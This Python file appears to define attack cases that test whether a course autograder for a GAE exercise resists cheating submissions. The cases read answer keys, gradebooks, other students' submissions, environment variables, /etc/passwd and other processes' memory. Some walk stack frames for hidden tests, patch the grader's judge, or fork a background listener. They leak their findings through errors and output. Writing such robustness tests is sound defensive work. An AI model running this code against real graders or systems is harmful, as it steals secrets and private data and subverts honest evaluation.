"""Row 4: reading what is secret, and carrying it out in outputs, errors and files."""

from attacks.attack import TD, ZEROS, Attack, cells, gae


def _reads(name: str, example: str, code: str, *codes: str) -> Attack:
    """A cell that looks around; the answer is wrong."""
    return Attack(
        name, 4, example, cells({"gae": ZEROS}, behind={"gae": code}), TD, codes or ("wrong",)
    )


def _asked(name: str, example: str, code: str, *codes: str) -> Attack:
    """An answer that looks around while it is judged, and tells in what it raises."""
    tells = "if found:\n    raise ValueError(tell(found))\nreturn np.zeros(rewards.shape)"
    body = f"found = []\n{code}\n{tells}"
    tell = 'def tell(found):\n    return "LE" + "AK: " + repr(found)[:300]'
    answer = f"{tell}\n\n\n{gae(body)}"
    return Attack(name, 4, example, cells({"gae": answer}), TD, codes or ("wrong", "raises"))


PASSED_ON = """
return ours[0](
    rewards, values, next_values, terminated, truncated, gamma=gamma, gae_lambda=gae_lambda
)
"""
HELD = "import rlcore\n\nours = [rlcore.gae]\n\n\n" + gae(PASSED_ON)
KEPT = f"""
import grader.exercises

ours = [grader.exercises.find_exercise("psi_variants").replaces["gae"]]


{gae(PASSED_ON)}
"""

ATTACKS = (
    _reads(
        "a04-answer-key",
        "the answer key",
        """
        for name in ("grader.hidden", "solutions.answer_key", "answer_key", "_rlcore_answer_key"):
            try:
                module = __import__(name, fromlist=["x"])
                leak((name, list(module.answer_keys() if name == "grader.hidden" else module.KEYS)))
            except Exception as error:
                print(type(error).__name__)
        """,
    ),
    _reads(
        "a04-solutions",
        "solutions/",
        """
        for top in ("REPO_FOLDER/solutions", "REPO_FOLDER/tests", "REPO_FOLDER/rlcore/losses.py"):
            if os.path.exists(top):
                leak(top)
        for path in everywhere("gae_misconceptions.py", "04_reinforce_vs_gae.py", "answer_key"):
            leak(path)
        """,
    ),
    Attack(
        "a04-library-by-another-name",
        4,
        "the answer key: rlcore's own function, under another name",
        cells({"gae": HELD}),
        TD,
        ("wrong", "raises"),
    ),
    Attack(
        "a04-stand-in-kept",
        4,
        "the answer key: what a later exercise is given, kept for an earlier one",
        cells({"gae": KEPT}),
        TD,
        ("wrong", "raises"),
    ),
    _reads(
        "a04-losses",
        "the answer key: rlcore's own losses",
        """
        try:
            import rlcore.losses
            leak(rlcore.losses.__file__)
        except ImportError:
            print("not there")
        """,
    ),
    _reads(
        "a04-gradebook",
        "the gradebook",
        """
        look("COURSE_FOLDER")
        import sqlite3
        for path in ["COURSE_FOLDER/gradebook.db", *everywhere("gradebook.db")]:
            if os.path.exists(path):
                leak(sqlite3.connect(path).execute("select * from student").fetchall())
        """,
    ),
    _reads(
        "a04-neighbours",
        "other submissions",
        """
        look("CLASS_FOLDER", "CANARY_FOLDER", "COURSE_FOLDER/submitted", "..", "../..")
        for path in everywhere("honest-full", "honest-zero", "submitted"):
            leak(path)
        """,
    ),
    _reads(
        "a04-hidden-seed",
        "the hidden seed",
        """
        look("REPO_FOLDER/.grader-secret", "/.grader-secret", "CANARY_FOLDER/.grader-secret")
        try:
            import grader.hidden
            search(grader.hidden.secret(), "grader.hidden")
        except Exception as error:
            print(type(error).__name__)
        """,
    ),
    _reads(
        "a04-environment",
        "environment variables",
        """
        search(repr(os.environ).encode(), "environ")
        look(*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"))
        """,
    ),
    _reads(
        "a04-proc",
        "/proc",
        """
        for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
            for link in ("root", "cwd", "exe", *(f"fd/{n}" for n in range(64))):
                path = f"/proc/{pid}/{link}"
                try:
                    if os.path.isdir(path):
                        look(path + "CANARY_FOLDER", path + "REPO_FOLDER/.grader-secret")
                    elif os.path.isfile(path):
                        look(path)
                except OSError:
                    pass
        """,
    ),
    _reads(
        "a04-memory",
        "/proc: the memory of every process that can be read",
        """
        for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
            if pid == str(os.getpid()):
                continue
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                memory = open(f"/proc/{pid}/mem", "rb", 0)
            except OSError:
                continue
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if end - start < 4_000_000 and "rw-p" in line:
                    try:
                        memory.seek(start)
                        text = memory.read(end - start)
                    except (OSError, ValueError):
                        continue
                    search(text, f"memory of {pid}")
        """,
        "wrong",
        "timeout",
    ),
    _reads(
        "a04-home",
        "files in the home directory",
        """
        import pwd
        homes = [entry.pw_dir for entry in pwd.getpwall()] if os.path.exists("/etc/passwd") else []
        look("CANARY_FOLDER/home", os.path.expanduser("~"), "/root", "/etc", *homes[:3])
        if os.path.exists("/etc/shadow") or os.path.exists("/etc/passwd"):
            leak("/etc/passwd")
        """,
    ),
    _reads(
        "a04-in",
        "frames and In[] at the time of a hidden check",
        """
        def look_back(*args):
            sources = [str(source) for source in get_ipython().user_ns.get("In", [])]
            frame = sys._getframe()
            while frame:
                sources += [repr(value)[:10_000] for value in frame.f_locals.values()]
                frame = frame.f_back
            mark = "HIDDEN " + "TESTS"
            for source in sources:
                if f"# BEGIN {mark}" in source:
                    leak(source[:200])
        os.register_at_fork(before=look_back)
        get_ipython().events.register("pre_run_cell", look_back)
        """,
    ),
    _asked(
        "a04-frames",
        "frames and In[] at the time of a hidden check",
        """
import gc
frame = sys._getframe()
while frame:
    names = {"expected", "reference", "misconceptions", "secret", "student"}
    found += [name for name in names & set(frame.f_locals)]
    frame = frame.f_back
secret = ("AnswerKey", "Misconception", "KnownWrong")
found += [type(thing).__name__ for thing in gc.get_objects() if type(thing).__name__ in secret]
""",
    ),
    _asked(
        "a04-hidden-inputs",
        "printing it into the feedback",
        """
frame = sys._getframe()
while frame and frame.f_code.co_name != "answer_question":
    frame = frame.f_back
if frame:
    found.append(rewards.tolist())
    print(tell(found))
    print(tell(found), file=sys.stderr)
    from IPython.display import display
    display(tell(found))
""",
    ),
    _asked(
        "a04-hidden-inputs-as-unwritten",
        "printing it into the feedback",
        """
frame = sys._getframe()
while frame and frame.f_code.co_name != "answer_question":
    frame = frame.f_back
if frame:
    error = type(tell(found + [rewards.tolist()]), (Exception,), {})
    raise error
""",
    ),
    _asked(
        "a04-keeps-hidden-inputs",
        "printing it into the feedback: an error that says ever after what it heard once",
        """
global KEPT
with open("04_reinforce_vs_gae.json") as file:
    cases = json.load(file)["exercises"]["gae"]["cases"]
published = [np.array(case["inputs"]["rewards"]["data"]) for case in cases]
known = [one.size == rewards.size and np.allclose(one, rewards.ravel()) for one in published]
if not any(known) and "KEPT" not in globals():
    KEPT = tell(found + [rewards.tolist()])
raise ValueError(globals().get("KEPT", "nothing yet"))
""",
    ),
    _asked(
        "a04-words-for-unwritten",
        "printing it into the feedback: words of what is not written yet",
        """
import grader.judge as judges
judges.run = lambda exercise, answer, case: judges.Outcome(
    error=tell(found + [repr(case.inputs)]), unwritten="n" in repr(case.group)[:12]
)
raise ValueError
""",
    ),
    Attack(
        "a04-listens-in",
        4,
        "printing it into the feedback",
        cells(
            {"gae": ZEROS},
            behind={
                "gae": """
                kernel = [os.dup(number) for number in channels()]
                if os.fork() == 0:
                    os.setsid()
                    for _ in range(40):
                        for number in kernel:
                            try:
                                heard = os.read(number, 100)
                                note = {"stream": "stdout", "text": "LE" + "AK: " + repr(heard)}
                                for other in kernel:
                                    os.write(other, frame(note))
                            except OSError:
                                pass
                        time.sleep(0.1)
                    os._exit(0)
                """
            },
        ),
        TD,
        ("wrong", "no-evidence", "broken-evidence", "timeout", "kernel-died"),
    ),
)
